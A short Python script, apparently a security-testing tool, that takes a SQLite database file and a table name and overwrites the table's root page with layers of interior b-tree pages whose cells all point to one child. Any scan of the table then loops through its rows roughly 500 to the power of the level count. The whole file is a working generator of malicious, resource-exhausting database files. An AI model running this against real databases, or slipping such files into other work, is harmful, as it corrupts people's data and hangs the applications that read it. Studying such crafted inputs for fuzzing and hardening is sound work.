"""Make a table of a SQLite file endless: endless_tree.py FILE TABLE [LEVELS].

The root of the table becomes a page of which every cell leads to one other page, of which every cell leads to the next,
and so on; the last one leads to what the table had. A scan of the table then meets its rows 500^LEVELS times.
"""
import sqlite3
import struct
import sys

path, table = sys.argv[1], sys.argv[2]
levels = int(sys.argv[3]) if len(sys.argv) > 3 else 12
database = sqlite3.connect(path)
database.execute("PRAGMA wal_checkpoint(TRUNCATE)")
root = 1 if table == "sqlite_schema" else database.execute(
    "SELECT rootpage FROM sqlite_schema WHERE name = ?", (table,)).fetchone()[0]
size = database.execute("PRAGMA page_size").fetchone()[0]
database.close()
content = bytearray(open(path, "rb").read())


def fill(page, child, start):
    """An interior page of rowids, with as many cells as there is room for; all lead to `child`."""
    cell = struct.pack(">IB", child, 1)
    n = (size - start - 12) // (2 + len(cell))
    first = size - n * len(cell)
    page[start:start + 12] = struct.pack(">BHHHBI", 5, 0, n, first, 0, child)
    for i in range(n):
        at = first + i * len(cell)
        page[start + 12 + 2 * i:start + 14 + 2 * i] = struct.pack(">H", at)
        page[at:at + len(cell)] = cell


start = 100 if root == 1 else 0
old = content[(root - 1) * size:root * size]
pages = len(content) // size
if start:  # a leaf elsewhere has no header of the file before it: its cells stay where they are, its pointers move
    head = old[start:start + 8]
    cells = struct.unpack(">H", head[3:5])[0]
    kind = 12 if head[0] == 5 else 8
    moved = bytearray(old)
    moved[0:kind + 2 * cells] = old[start:start + kind + 2 * cells]
    content += moved
else:
    content += old
below = pages + 1
for _ in range(levels):
    page = bytearray(size)
    fill(page, below, 0)
    content += page
    below = len(content) // size
page = content[(root - 1) * size:root * size]
fill(page, below, start)
content[(root - 1) * size:root * size] = page
content[28:32] = struct.pack(">I", len(content) // size)
content[92:96] = content[24:28]
open(path, "wb").write(content)
